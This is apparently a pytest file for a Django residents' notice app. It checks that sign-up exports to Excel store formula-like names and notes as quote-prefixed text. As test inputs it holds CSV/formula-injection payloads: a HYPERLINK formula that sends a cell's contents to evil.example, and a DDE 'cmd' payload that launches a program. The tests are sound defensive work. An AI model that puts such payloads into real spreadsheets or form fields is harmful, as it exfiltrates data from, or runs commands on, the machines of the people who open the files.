"""What residents type reaches the sign-up export as text: a name or note that a
spreadsheet would read as a formula (=, +, -, @) is a text cell with the quote prefix,
shown exactly as typed and never run on the clerk's computer."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from notices.models import ActivitySignup
from tests import factories as f
from tests.notices import factories as nf

NOTE = '=HYPERLINK("http://evil.example/?"&A2,"点我")'


@pytest.fixture
def activity(activities_a, house_a):
    return nf.activity(activities_a, targets=[house_a.building], capacity=10, ask_note=True)


def sign_up(activity, house, name, note):
    resident = f.ResidentFactory(community=house.community, name=name)
    f.OccupancyFactory(resident=resident, house=house, state="verified")
    return ActivitySignup.sign_up(activity, resident, people=1, phone="13912345678",
                                  note=note)


def exported_rows(client, activity):
    response = client.get(reverse("notices_activities:export", args=[activity.pk]))
    return list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))


def test_a_note_written_as_a_formula_is_exported_as_its_text(client, service_a, activity,
                                                             house_a):
    sign_up(activity, house_a, "王芳", NOTE)
    client.force_login(service_a)

    (row,) = exported_rows(client, activity)

    note = row[4]
    assert note.data_type == "s"
    assert note.value == NOTE
    assert note.quotePrefix


@pytest.mark.parametrize("typed", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"])
def test_other_formula_starts_are_marked_as_text(client, service_a, activity, house_a,
                                                 typed):
    sign_up(activity, house_a, typed, "")
    client.force_login(service_a)

    (row,) = exported_rows(client, activity)

    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == (typed, "s", True)


def test_ordinary_text_and_numbers_are_left_as_they_are(client, service_a, activity,
                                                        house_a):
    sign_up(activity, house_a, "李雷", "坐轮椅")
    client.force_login(service_a)

    (row,) = exported_rows(client, activity)

    assert (row[0].value, row[0].quotePrefix) == ("李雷", False)
    assert (row[2].value, row[2].data_type) == (1, "n")
